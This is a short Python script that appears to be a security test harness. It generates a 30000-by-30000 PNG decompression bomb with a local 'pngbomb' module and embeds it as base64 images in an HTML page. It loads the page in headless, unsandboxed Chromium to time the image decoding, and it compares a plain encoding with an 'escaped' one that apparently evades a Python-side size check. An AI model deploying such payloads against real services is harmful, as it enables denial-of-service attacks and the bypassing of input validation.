import base64, sys, time, json
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from pngbomb import png, find
from playwright.sync_api import sync_playwright
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"]
def check(html_imgs, path="/tmp/attack42-root-img/t.html"):
    open(path, "w").write("<html><body>" + "".join(f'<img id="i{n}" src="data:image/png;base64,{t}">' for n, t in enumerate(html_imgs)) + "</body></html>")
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        pg = b.new_page()
        t0 = time.time()
        pg.goto("file://" + path)
        res = pg.evaluate("""async () => { const out=[]; for (const i of document.images) { try { await i.decode(); out.push([i.naturalWidth, i.naturalHeight, 'ok']); } catch(e) { out.push([i.naturalWidth, i.naturalHeight, String(e)]); } } return out; }""")
        el = time.time() - t0
        b.close()
    return res, el
if __name__ == "__main__":
    data = png(30000, 30000)
    B = base64.b64encode(data).decode()
    t, size = find(B)
    print("python check sees", size)
    print("plain B:", check([B]))
    print("escaped T:", check([t]))
